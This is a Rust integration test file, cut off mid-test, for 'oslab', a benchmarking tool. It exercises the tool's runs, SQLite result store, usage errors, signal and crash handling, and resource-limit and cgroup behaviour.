//! The real binary, end to end: output formats, the SQLite file it writes, and every kind of bad
//! input the issue lists (unknown probe, bad cpu, cpu outside our mask, unwritable or corrupt
//! store, no privileges, Ctrl-C).

mod common;

use common::{fails, oslab, processes_mentioning, stdout, temp_db, tool};
use serde_json::Value;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// Tests that measure run alone: a busy loop or a schedule on a cpu is what any other oslab
/// process (even one that only calibrates its clock) would disturb. The others share a turn.
static TURN: std::sync::RwLock<()> = std::sync::RwLock::new(());

fn exclusive() -> std::sync::RwLockWriteGuard<'static, ()> {
    TURN.write().unwrap_or_else(|p| p.into_inner())
}

fn shared() -> std::sync::RwLockReadGuard<'static, ()> {
    TURN.read().unwrap_or_else(|p| p.into_inner())
}

fn json(out: &[u8]) -> Value {
    serde_json::from_slice(out)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(out)))
}

fn stored_runs(db: &Path) -> Vec<(i64, String, i64)> {
    let conn = rusqlite::Connection::open(db).unwrap();
    let mut stmt = conn
        .prepare("SELECT id, status, (SELECT count(*) FROM measurements m WHERE m.run_id = r.id) FROM runs r")
        .unwrap();
    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect()
}

#[test]
fn info_describes_the_machine() {
    let _turn = shared();
    let out = stdout(&["info", "--json"]);
    let v = json(&out);
    let fp = &v["fingerprint"];
    assert!(fp["threads"].as_u64().unwrap() >= 1);
    assert!(!fp["topology"]["cpus"].as_array().unwrap().is_empty());
    assert!(fp["clock"]["ticks_per_ns"].as_f64().unwrap() > 0.0);
    let pmu = &v["environment"]["pmu"];
    assert!(pmu["available"].as_bool().unwrap() || pmu["reason"].as_str().is_some());
    let text = stdout(&["info"]);
    let text = String::from_utf8(text).unwrap();
    for field in [
        "cpu",
        "caches",
        "numa",
        "clocksource",
        "tsc",
        "pmu",
        "privileges",
    ] {
        assert!(
            text.lines().any(|l| l.starts_with(field)),
            "info lacks {field}:\n{text}"
        );
    }
}

#[test]
fn list_shows_every_probe_and_whether_it_runs_here() {
    let _turn = shared();
    let v = json(&stdout(&["list", "--json"]));
    let rows = v.as_array().unwrap();
    assert!(rows.len() >= 27);
    for r in rows {
        assert!(r["id"].as_str().unwrap().contains('.'));
        assert!(!r["about"].as_str().unwrap().is_empty());
        let here = r["here"].as_str().unwrap();
        assert!(
            here == "yes" || here.starts_with("skipped: ") || here.starts_with("partly"),
            "{here}"
        );
    }
}

#[test]
fn run_stores_what_it_prints_and_show_reprints_it() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let dbs = db.to_str().unwrap();
    let out = oslab()
        .args([
            "run",
            "--quick",
            "syscall.getppid",
            "timer.rdtsc",
            "--json",
            "--db",
            dbs,
        ])
        .assert()
        .success()
        .get_output()
        .clone();
    let v = json(&out.stdout);
    assert_eq!(v["schema"], "oslab.run/1");
    let ms = v["measurements"].as_array().unwrap();
    assert_eq!(ms.len(), 3, "getppid hot + cold, rdtsc");
    for m in ms {
        assert!(m["status"] == "ok" || m["status"] == "noisy", "{m}");
        let median = m["summary"]["median"].as_f64().unwrap();
        assert!(median > 1.0 && median < 1e6, "{m}");
        assert!(m["cycles"].as_f64().is_some());
    }
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("stored as run 1"), "{said}");
    // The harness's decisions only with -v.
    assert!(!said.contains("harness:"), "{said}");
    assert_eq!(stored_runs(&db), vec![(1, "complete".to_string(), 3)]);

    let shown = json(&stdout(&["show", "1", "--json", "--db", dbs]));
    assert_eq!(shown["measurements"], v["measurements"]);
    let text = stdout(&["show", "latest", "--details", "--db", dbs]);
    let text = String::from_utf8(text).unwrap();
    assert!(
        text.contains("syscall.getppid") && text.contains("cache=cold"),
        "{text}"
    );
    let runs = json(&stdout(&["runs", "--json", "--db", dbs]));
    assert_eq!(runs[0]["measurements"], 3);
    let verbose = oslab()
        .args(["run", "--quick", "timer.rdtsc", "-v", "--db", dbs])
        .assert()
        .success()
        .get_output()
        .stderr
        .clone();
    let verbose = String::from_utf8_lossy(&verbose);
    assert!(
        verbose.contains("harness: --quick budgets: 70 ms a measurement")
            && verbose.contains("harness: timer.rdtsc (repetition 1) took"),
        "{verbose}"
    );
}

#[test]
fn the_plan_says_what_each_probe_would_measure_here_and_measures_nothing() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    let db_text = db.to_str().unwrap();
    let text = String::from_utf8(stdout(&["run", "--quick", "--plan", "--db", db_text])).unwrap();
    for id in [
        "bandwidth.threads",
        "numa.matrix",
        "memory.latency.loaded",
        "others",
    ] {
        assert!(text.contains(id), "{id} not in {text}");
    }
    let plan = json(&stdout(&[
        "run", "--plan", "--json", "numa", "--db", db_text,
    ]));
    let rows = plan.as_array().unwrap();
    assert_eq!(rows.len(), 1);
    assert!(
        rows[0]["plan"].as_str().unwrap().contains("cells"),
        "{plan}"
    );
    assert!(rows[0]["seconds"].as_f64().unwrap() > 0.0);
    assert!(!db.exists(), "a plan stores nothing");
    // A wrong cpu is refused as in a run.
    let err = fails(&["run", "--plan", "--cpu", "4096"], 2);
    assert!(err.contains("4096"), "{err}");
}

#[test]
fn a_terminal_width_in_the_environment_never_wraps_what_programs_read() {
    // The task probes read their helper's JSON report: an exported COLUMNS once wrapped it.
    let _turn = shared();
    for columns in ["40", "300"] {
        let (_dir, db) = temp_db();
        let out = oslab()
            .env("COLUMNS", columns)
            .args([
                "run",
                "--quick",
                "task.fork",
                "task.pthread",
                "--json",
                "--db",
            ])
            .arg(&db)
            .assert()
            .success()
            .get_output()
            .stdout
            .clone();
        let run = json(&out);
        for m in run["measurements"].as_array().unwrap() {
            assert!(m["summary"].is_object(), "COLUMNS={columns}: {m}");
        }
    }
}

#[test]
fn unknown_probe_is_a_usage_error_and_stores_nothing() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    let err = fails(&["run", "nosuch.*", "--db", db.to_str().unwrap()], 2);
    assert!(
        err.contains("nosuch") && err.contains("oslab list"),
        "{err}"
    );
    assert_eq!(err.trim().lines().count(), 1, "one-line error: {err}");
    assert!(!db.exists());
}

#[test]
fn bad_cpus_are_usage_errors() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    for (args, expect) in [
        (vec!["--cpu", "x"], "not a cpu number"),
        (vec!["--cpu", "4095"], "not online"),
        (vec!["--cpu", "node:7"], "does not exist"),
        (
            vec!["--cpu", "0", "--peer-cpu", "0"],
            "is the measuring cpu",
        ),
    ] {
        let base = [
            "run",
            "--quick",
            "timer.rdtsc",
            "--db",
            db.to_str().unwrap(),
        ];
        let err = fails(&[&base[..], &args[..]].concat(), 2);
        assert!(err.contains(expect), "{args:?}: {err}");
    }
    assert!(!db.exists());
    // A 20,000-entry list that names one good cpu is accepted, but the run record keeps the
    // command line short.
    let long = vec!["0"; 20_000].join(",");
    let db_arg = db.to_str().unwrap();
    stdout(&[
        "run",
        "--quick",
        "timer.rdtsc",
        "--cpu",
        &long,
        "--db",
        db_arg,
    ]);
    let conn = rusqlite::Connection::open(&db).unwrap();
    let command: String = conn
        .query_row("SELECT command FROM runs", [], |r| r.get(0))
        .unwrap();
    assert!(
        command.len() < 1000 && command.contains("(39999 characters)"),
        "{} characters stored",
        command.len()
    );
}

#[test]
fn cpu_outside_the_affinity_mask_is_refused() {
    let _turn = shared();
    let online = oslab_os::topology::read().unwrap().online();
    let Some(other) = online.iter().nth(1) else {
        return; // one cpu: nothing can be outside the mask
    };
    let first = online.first().unwrap();
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"));
    cmd.args([
        "run",
        "--quick",
        "timer.rdtsc",
        "--cpu",
        &other.to_string(),
        "--db",
        "/nonexistent/never.db",
    ]);
    // SAFETY: only an async-signal-safe syscall between fork and exec.
    unsafe {
        cmd.pre_exec(move || {
            oslab_os::affinity::set_affinity(0, &oslab_core::CpuSet::single(first))
        });
    }
    let out = cmd.output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("affinity mask"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn unwritable_store_fails_before_measuring() {
    let _turn = shared();
    let started = std::time::Instant::now();
    let err = fails(&["run", "--db", "/proc/oslab-test/x.db"], 1);
    assert!(
        err.contains("/proc/oslab-test/x.db") && err.contains("--db"),
        "{err}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "it measured before failing"
    );
    // A --db in a directory that does not exist is refused, and no directory is made.
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("no/such/dir/x.db");
    let err = fails(&["runs", "--db", missing.to_str().unwrap()], 1);
    assert!(err.contains("does not exist"), "{err}");
    assert!(!dir.path().join("no").exists());
}

#[test]
fn corrupt_store_is_refused_and_left_untouched() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    let garbage = b"this is not sqlite, it is a note someone kept".repeat(100);
    std::fs::write(&db, &garbage).unwrap();
    for args in [
        vec!["runs"],
        vec!["run", "--quick", "timer.rdtsc"],
        vec!["show", "1"],
    ] {
        let err = fails(&[&args[..], &["--db", db.to_str().unwrap()]].concat(), 1);
        assert!(err.contains("not an oslab result store"), "{args:?}: {err}");
    }
    assert_eq!(std::fs::read(&db).unwrap(), garbage);
}

#[test]
fn show_of_a_missing_run_says_how_to_find_one() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    assert!(fails(&["show", "42", "--db", db.to_str().unwrap()], 1).contains("oslab runs"));
    assert!(fails(&["show", "abc", "--db", db.to_str().unwrap()], 2).contains("not a run id"));
    assert!(fails(&["run", "--no-such-flag"], 2).contains("--no-such-flag"));
}

#[test]
fn runs_unprivileged_and_says_what_was_not_permitted() {
    let _turn = exclusive();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("o.db");
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"));
    cmd.args([
        "run",
        "--quick",
        "timer.rdtsc",
        "--db",
        db.to_str().unwrap(),
    ]);
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        if !common::nobody_can_run_oslab() {
            return;
        }
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
        cmd.uid(65534).gid(65534).env("HOME", dir.path());
    }
    let out = cmd.output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(
        err.contains("normal priority") && err.contains("permission denied"),
        "{err}"
    );
    assert_eq!(stored_runs(&db).len(), 1);
}

/// Starts oslab with `args`, lets `running` check it after `after`, sends SIGINT, and expects a
/// clean stop (exit 130); returns its stderr.
fn interrupted(args: &[&std::ffi::OsStr], after: Duration, running: impl FnOnce()) -> String {
    signalled(args, after, running, &[libc::SIGINT])
}

/// Like [`interrupted`], sending each of `signals` in quick succession (as `timeout` sends
/// SIGTERM to the process and then to its group).
fn signalled(
    args: &[&std::ffi::OsStr],
    after: Duration,
    running: impl FnOnce(),
    signals: &[i32],
) -> String {
    let child = std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
        .args(args)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(after);
    running();
    for &sig in signals {
        // SAFETY: signalling our own child.
        unsafe { libc::kill(child.id() as i32, sig) };
        // A moment between two: the same signal sent twice at once is delivered once.
        std::thread::sleep(Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    // Exit 128 + the signal, as shells report it: 130 for SIGINT, 143 for SIGTERM.
    assert_eq!(out.status.code(), Some(128 + signals[0]), "{err}");
    err
}

#[test]
fn ctrl_c_keeps_what_completed_and_reaps_children() {
    let _turn = exclusive();
    let dir = tempfile::tempdir().unwrap();
    // A unique store path: every forked peer carries it in its command line.
    let marker = dir.path().join("ctrlc-marker.db");
    // Long enough for timer.rdtsc to finish and a ping-pong peer to be running.
    let err = interrupted(
        &[
            "run".as_ref(),
            "timer.rdtsc".as_ref(),
            "switch.process.pipe".as_ref(),
            "switch.process.futex".as_ref(),
            // More than enough left to measure when the signal comes.
            "switch.process.eventfd".as_ref(),
            "switch.thread.pipe".as_ref(),
            "switch.thread.futex".as_ref(),
            "--db".as_ref(),
            marker.as_os_str(),
        ],
        Duration::from_millis(2500),
        || {},
    );
    assert!(err.contains("interrupted"), "{err}");
    let runs = stored_runs(&marker);
    assert_eq!(runs.len(), 1);
    assert_eq!(runs[0].1, "interrupted");
    assert!(runs[0].2 >= 1, "timer.rdtsc completed before the signal");
    // No forked peer survives: they all carry the unique --db argument in their command line.
    std::thread::sleep(Duration::from_millis(200));
    let leftovers = processes_mentioning(&marker);
    assert!(leftovers.is_empty(), "left behind: {leftovers:?}");
}

#[test]
fn every_signal_that_ends_a_process_keeps_what_completed_as_interrupted() {
    // A hang-up (an ssh session lost), Ctrl-\\, the user signals and an alarm once skipped all
    // cleanup: a run ended `crashed` with a few results where SIGTERM kept everything measured.
    let _turn = exclusive();
    let dir = tempfile::tempdir().unwrap();
    for sig in [
        libc::SIGHUP,
        libc::SIGQUIT,
        libc::SIGUSR1,
        libc::SIGUSR2,
        libc::SIGALRM,
    ] {
        let db = dir.path().join(format!("signal-{sig}.db"));
        let err = signalled(
            &[
                "run".as_ref(),
                "timer.rdtsc".as_ref(),
                "switch.process.pipe".as_ref(),
                "switch.thread.pipe".as_ref(),
                "switch.thread.futex".as_ref(),
                "--db".as_ref(),
                db.as_os_str(),
            ],
            Duration::from_millis(1500),
            || {},
            &[sig],
        );
        assert!(err.contains("interrupted"), "signal {sig}: {err}");
        let runs = stored_runs(&db);
        assert_eq!(runs.len(), 1, "signal {sig}");
        assert_eq!(runs[0].1, "interrupted", "signal {sig}: {err}");
        std::thread::sleep(Duration::from_millis(200));
        let leftovers = processes_mentioning(&db);
        assert!(leftovers.is_empty(), "signal {sig} left {leftovers:?}");
    }
}

#[test]
fn sigkill_at_a_random_point_keeps_every_completed_probe_intact() {
    let _turn = exclusive();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("killed.db");
    // Probes of two rows each (hot and cold cache): a probe stored by halves would show. The
    // default budgets (about 6 s here) so the kill always comes before the end.
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
        .args(["run", "syscall.*", "timer.*", "--db"])
        .arg(&db)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Somewhere between the first probes and the end.
    common::sleep_until_a_random_moment(Duration::from_millis(1200), Duration::from_millis(1500));
    child.kill().unwrap(); // SIGKILL
    child.wait().unwrap();
    let conn = rusqlite::Connection::open(&db).unwrap();
    let check: String = conn
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap();
    assert_eq!(check, "ok");
    let runs = stored_runs(&db);
    assert_eq!(runs.len(), 1, "{runs:?}");
    assert_eq!(
        runs[0].1, "running",
        "as written: the writer never finished it"
    );
    assert!(runs[0].2 >= 2, "at least one probe completed: {runs:?}");
    let mut per_probe = conn
        .prepare("SELECT probe, count(*) FROM measurements GROUP BY probe")
        .unwrap();
    let counts: Vec<(String, i64)> = per_probe
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    for (probe, n) in &counts {
        let whole = if probe.starts_with("syscall.") { 2 } else { 1 };
        assert_eq!(*n, whole, "{probe} stored incompletely: {counts:?}");
    }
    // Readers see that its writer is gone.
    let runs = json(&stdout(&["runs", "--json", "--db", db.to_str().unwrap()]));
    assert_eq!(runs[0]["status"], "crashed", "{runs}");
    let shown =
        String::from_utf8(stdout(&["show", "latest", "--db", db.to_str().unwrap()])).unwrap();
    assert!(
        shown.contains("crashed: the process that measured this run no longer exists"),
        "{shown}"
    );
}

#[test]
fn running_out_of_file_descriptors_is_called_that_not_an_unwritable_path() {
    // SQLite says "unable to open database file" alike for both; at some open-file limit the
    // store is where the descriptors run out (below it, reading the machine is).
    let dir = tempfile::tempdir().unwrap();
    let bin = assert_cmd::cargo::cargo_bin("oslab");
    let mut named = false;
    for limit in 3..=16 {
        let db = dir.path().join(format!("fd{limit}.db"));
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!(
                "ulimit -n {limit} && exec '{}' run --quick timer.rdtsc --db '{}'",
                bin.display(),
                db.display()
            ))
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            !err.contains("check the path is writable"),
            "limit {limit}: {err}"
        );
        named |= err.contains("no file descriptor left");
        if out.status.success() {
            break;
        }
    }
    assert!(named, "no limit ran out at the store");
}

#[test]
#[ignore = "needs root, to make a memory cgroup"]
fn a_cgroups_memory_limit_sizes_the_probes_instead_of_the_oom_killer() {
    // In a 1 GiB container the suite, sized by the host's MemAvailable, was OOM-killed and left a
    // crashed run. A memory cgroup of 200 MiB: the 256 MiB chase is cut to what it allows.
    let name = format!("oslab-test-{}", std::process::id());
    let (dir, limit, procs) = if Path::new("/sys/fs/cgroup/memory").is_dir() {
        let d = Path::new("/sys/fs/cgroup/memory").join(&name);
        (
            d.clone(),
            d.join("memory.limit_in_bytes"),
            d.join("cgroup.procs"),
        )
    } else {
        let d = Path::new("/sys/fs/cgroup").join(&name);
        (d.clone(), d.join("memory.max"), d.join("cgroup.procs"))
    };
    if std::fs::create_dir(&dir).is_err() || std::fs::write(&limit, "209715200").is_err() {
        let _ = std::fs::remove_dir(&dir);
        oslab_testkit::skip("no memory cgroup can be made here");
        return;
    }
    let (_tmp, db) = temp_db();
    let bin = assert_cmd::cargo::cargo_bin("oslab");
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "echo $$ > '{}' && exec '{}' run memory.latency.random --json --db '{}'",
            procs.display(),
            bin.display(),
            db.display()
        ))
        .output()
        .unwrap();
    let _ = std::fs::remove_dir(&dir);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{:?}: {err}", out.status);
    let run = json(&out.stdout);
    let largest = run["measurements"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|m| m["params"]["size"].as_f64())
        .fold(0.0, f64::max);
    assert!(largest > 0.0 && largest <= 200.0 * 1048576.0, "{largest}");
    assert_eq!(run["run"]["status"], "complete");
}

#[test]
#[ignore = "needs root, to make cpu and pids cgroups"]
fn a_cgroups_cpu_quota_and_pids_limit_are_seen_and_warned_of() {
    // A Slurm job or a container gives half a cpu's time and a few processes: `info` says so,
    // and the environment warns, instead of the numbers silently carrying the throttling.
    let name = format!("oslab-test-{}", std::process::id());
    let root = Path::new("/sys/fs/cgroup");
    // (group directory, file, value) for v1's cpu and pids controllers, or v2's one tree.
    let v1 = root.join("cpu").is_dir() && root.join("pids").is_dir();
    let settings: Vec<(std::path::PathBuf, &str, &str)> = match v1 {
        true => vec![
            (root.join("cpu").join(&name), "cpu.cfs_period_us", "100000"),
            (root.join("cpu").join(&name), "cpu.cfs_quota_us", "50000"),
            (root.join("pids").join(&name), "pids.max", "40"),
        ],
        false => vec![
            (root.join(&name), "cpu.max", "50000 100000"),
            (root.join(&name), "pids.max", "40"),
        ],
    };
    let made = settings.iter().all(|(dir, file, value)| {
        let _ = std::fs::create_dir(dir);
        std::fs::write(dir.join(file), value).is_ok()
    });
    let mut groups: Vec<&std::path::PathBuf> = settings.iter().map(|(d, _, _)| d).collect();
    groups.dedup();
    if !made {
        groups.iter().for_each(|d| drop(std::fs::remove_dir(d)));
        oslab_testkit::skip("no cpu and pids cgroups can be made here");
        return;
    }
    let enter: Vec<String> = groups
        .iter()
        .map(|d| format!("echo $$ > '{}'", d.join("cgroup.procs").display()))
        .collect();
    let bin = assert_cmd::cargo::cargo_bin("oslab");
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "{} && exec '{}' info --json",
            enter.join(" && "),
            bin.display()
        ))
        .output()
        .unwrap();
    groups.iter().for_each(|d| drop(std::fs::remove_dir(d)));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let info = json(&out.stdout);
    let limits = &info["environment"]["limits"];
    assert_eq!(limits["cpu_quota"].as_f64(), Some(0.5), "{limits}");
    let left = limits["pids_left"].as_u64().unwrap();
    assert!(left > 0 && left < 40, "{limits}");
    let kinds: Vec<&str> = info["environment"]["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|w| w["kind"].as_str())
        .collect();
    assert!(
        kinds.contains(&"cpu-quota") && kinds.contains(&"pids"),
        "{kinds:?}"
    );
}

#[test]
fn a_memory_limit_fails_the_probe_that_needs_more_not_the_run() {
    // Under `ulimit -v` a vector that cannot grow aborts the process: the chain's index of the
    // stride table's 64 MiB working set did, and the whole run was lost.
    let (_dir, db) = temp_db();
    let bin = assert_cmd::cargo::cargo_bin("oslab");
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ulimit -v 200000 && exec '{}' run --quick memory.latency.stride --json --db '{}'",
            bin.display(),
            db.display()
        ))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    let run = json(&out.stdout);
    let reasons: Vec<&str> = run["measurements"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["status"] == "failed")
        .filter_map(|m| m["reason"].as_str())
        .collect();
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("cannot allocate") || r.contains("cannot map")),
        "{reasons:?} {err}"
    );
}

#[test]
fn process_creation_is_timed_from_a_minimal_parent_and_fork_grows_with_its_memory() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let out = stdout(&[
        "run",
        "--quick",
        "task.fork",
        "task.pthread",
        "--json",
        "--db",
        db.to_str().unwrap(),
    ]);
    let run = json(&out);
    let ms = run["measurements"].as_array().unwrap();
    let find = |metric: &str, touched: Option<u64>| {
        ms.iter()
            .find(|m| {
                m["probe"] == "task.fork"
                    && m["metric"] == metric
                    && m["params"]["touched_mib"].as_u64() == touched
            })
            .unwrap_or_else(|| panic!("no task.fork {metric} {touched:?}: {run}"))
    };
    // The headline comes from the helper, whose size is said (a few MiB at most).
    let head = find("round_trip", None);
    let note = head["note"].as_str().unwrap();
    assert!(note.contains("minimal helper process"), "{note}");
    assert!(head["params"].get("parent_rss_mib").is_none());
    // ... and recorded as found, for the headline's label (a thread's cost does not depend on it).
    let resident = head["context"]["parent_resident_bytes"].as_u64().unwrap();
    assert!((1 << 20..1 << 30).contains(&resident), "{resident}");
    let pthread = ms.iter().find(|m| m["probe"] == "task.pthread").unwrap();
    assert!(pthread["note"].as_str().unwrap().contains("minimal helper"));
    assert!(pthread["context"].get("parent_resident_bytes").is_none());
    // Fork copies page tables: 64 MiB touched costs more than 1 MiB, and the fit says so.
    let median = |m: &Value| m["summary"]["median"].as_f64().unwrap();
    assert!(median(find("round_trip", Some(64))) > median(find("round_trip", Some(1))));
    assert!(median(find("cost_per_mib", None)) > 0.0);
    // Nothing of the helpers is left behind.
    std::thread::sleep(Duration::from_millis(100));
    assert!(processes_mentioning(Path::new("task-helper")).is_empty());
}

#[test]
fn results_measured_while_other_work_runs_are_not_ok() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let measure = || {
        json(&stdout(&[
            "run",
            "--quick",
            "timer.rdtsc",
            "syscall.getppid",
            "--json",
            "--db",
            db.to_str().unwrap(),
        ]))
    };
    let note = |m: &Value| m["note"].as_str().unwrap_or_default().to_string();
    // Alone (in our turn), the busy-machine note does not appear, unless work outside this
    // test keeps the machine busy: then nothing here can be told apart.
    let quiet = measure();
    let rdtsc = &quiet["measurements"][0];
    if note(rdtsc).contains("busy") {
        return oslab_testkit::skip(&format!(
            "the machine is busy without us, so a quiet baseline cannot be had: {}",
            note(rdtsc)
        ));
    }
    // Two spinning processes, one per cpu of this machine: every result says so and is not ok.
    let hogs: Vec<_> = (0..2).map(|_| oslab_testkit::BusyLoop::start()).collect();
    std::thread::sleep(Duration::from_millis(200));
    let loaded = measure();
    drop(hogs);
    // The host rows measure the interference itself: their figures are the subject.
    for m in loaded["measurements"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["probe"] != "host")
    {
        assert_eq!(m["status"], "noisy", "{m}");
        assert!(
            note(m).contains("measured while the machine was busy"),
            "{m}"
        );
    }
    let warnings = loaded["run"]["environment"]["warnings"].as_array().unwrap();
    assert!(
        warnings.iter().any(|w| w["kind"] == "contention"),
        "{warnings:?}"
    );
}

#[test]
fn fault_file_that_cannot_fit_is_refused_before_measuring() {
    let _turn = shared();
    let (dir, db) = temp_db();
    let d = dir.path().to_str().unwrap();
    let db = db.to_str().unwrap();
    let err = fails(
        &[
            "run",
            "faults.file",
            "--file-size",
            "100T",
            "--temp-dir",
            d,
            "--db",
            db,
        ],
        2,
    );
    assert!(
        err.contains("would not fit") && err.contains("--file-size"),
        "{err}"
    );
    let err = fails(
        &["run", "faults", "--temp-dir", "/no/such/dir", "--db", db],
        2,
    );
    assert!(err.contains("not a directory"), "{err}");
    let err = fails(&["run", "faults", "--file-size", "lots", "--db", db], 2);
    assert!(err.contains("not a size"), "{err}");
    assert!(!Path::new(db).exists() || stored_runs(Path::new(db)).is_empty());
}

#[test]
fn ctrl_c_while_the_fault_file_is_written_leaves_nothing_behind() {
    let _turn = exclusive();
    let (dir, db) = temp_db();
    let files = tempfile::tempdir().unwrap();
    interrupted(
        &[
            "run".as_ref(),
            "faults.file".as_ref(),
            "--file-size".as_ref(),
            "2G".as_ref(),
            "--temp-dir".as_ref(),
            files.path().as_os_str(),
            "--db".as_ref(),
            db.as_os_str(),
        ],
        Duration::from_millis(700),
        || {},
    );
    let left: Vec<_> = std::fs::read_dir(files.path()).unwrap().collect();
    assert!(left.is_empty(), "left behind: {left:?}");
    drop(dir);
}

#[test]
fn numa_prints_the_matrix_and_says_why_it_is_small() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let out = stdout(&["numa", "--quick", "--db", db.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out);
    let nodes = std::fs::read_dir("/sys/devices/system/node")
        .map(|d| {
            d.flatten()
                .filter(|e| e.file_name().to_string_lossy().starts_with("node"))
                .count()
        })
        .unwrap_or(1);
    // The matrix where there are several nodes; one line saying why not where there is one.
    assert_eq!(nodes <= 1, text.contains("one NUMA node"), "{text}");
    assert_eq!(
        nodes > 1,
        text.contains("NUMA bandwidth") && text.contains("SLIT distance"),
        "{text}"
    );
    assert_eq!(stored_runs(&db).len(), 1);
}

/// Runs `oslab ARGS --json --trace FILE --db DB`; returns the store's directory guard, the store
/// path, the run's JSON and the trace's events.
fn run_with_trace(args: &[&str]) -> (tempfile::TempDir, PathBuf, Value, Vec<Value>) {
    let (dir, db) = temp_db();
    let trace = dir.path().join("trace.json");
    let mut all: Vec<&str> = args.to_vec();
    all.extend([
        "--json",
        "--trace",
        trace.to_str().unwrap(),
        "--db",
        db.to_str().unwrap(),
    ]);
    let run = json(&stdout(&all));
    let doc: Value = serde_json::from_slice(&std::fs::read(&trace).unwrap()).unwrap();
    let events = doc["traceEvents"].as_array().unwrap().clone();
    (dir, db, run, events)
}

#[test]
fn activity_infers_the_tick_stores_the_timeline_and_exports_a_trace() {
    let _turn = exclusive();
    let (_dir, db, run, events) = run_with_trace(&["activity", "--duration", "400ms"]);
    let ms = run["measurements"].as_array().unwrap();
    let metric = |name: &str| ms.iter().find(|m| m["metric"] == name).unwrap();
    let overhead = metric("read_overhead")["summary"]["median"]
        .as_f64()
        .unwrap();
    assert!(overhead > 0.1 && overhead < 10_000.0, "{overhead}");
    let tick = metric("tick_hz");
    // A rate, in its own unit: interruptions per second are not a count.
    assert_eq!(tick["unit"], "hz", "{tick}");
    if let Some(hz) = tick["summary"]["median"].as_f64() {
        // A busy cpu takes every tick: the rate is one of the usual CONFIG_HZ values, and what the
        // kernel counted as local timer interrupts.
        assert!(
            [100.0, 250.0, 300.0, 1000.0]
                .iter()
                .any(|h| (hz - h).abs() < 0.1 * h),
            "{hz} Hz"
        );
        if let Some(kernel) = tick["prediction"]["value"].as_f64() {
            // Either the tick is what the kernel counted, or the note says where the more
            // regular interruptions come from (a host preempting this virtual cpu at its rate).
            let note = tick["note"].as_str().unwrap_or_default();
            assert!(
                (hz - kernel).abs() < 0.2 * kernel
                    || note.contains("local timer interrupts per second"),
                "{hz} vs kernel {kernel}: {note}"
            );
        }
    }
    let spans = events.iter().filter(|e| e["ph"] == "X").count();
    let conn = rusqlite::Connection::open(&db).unwrap();
    let stored: i64 = conn
        .query_row("SELECT count(*) FROM timeline", [], |r| r.get(0))
        .unwrap();
    assert!(
        spans > 0 && spans as i64 == stored,
        "{spans} spans, {stored} stored"
    );
}

#[test]
fn activity_interrupted_keeps_what_it_recorded() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let err = interrupted(
        &[
            "activity".as_ref(),
            "--duration".as_ref(),
            "10s".as_ref(),
            "--db".as_ref(),
            db.as_os_str(),
        ],
        Duration::from_millis(2500),
        || {},
    );
    let runs = stored_runs(&db);
    assert_eq!(runs.len(), 1, "{err}");
    assert_eq!(runs[0].1, "interrupted");
    assert!(
        runs[0].2 > 0,
        "the two seconds recorded are summarised: {err}"
    );
}

#[test]
fn activity_refuses_bad_arguments() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    let db = db.to_str().unwrap();
    for (bad, why) in [
        ("lots", "--threshold"),
        ("inf", "positive number"),
        ("NaN", "positive number"),
        ("5000ms", "at most 1 s"),
        // Every read of the loop would be a gap: unbounded memory, nothing learnt.
        ("1ns", "read-to-read"),
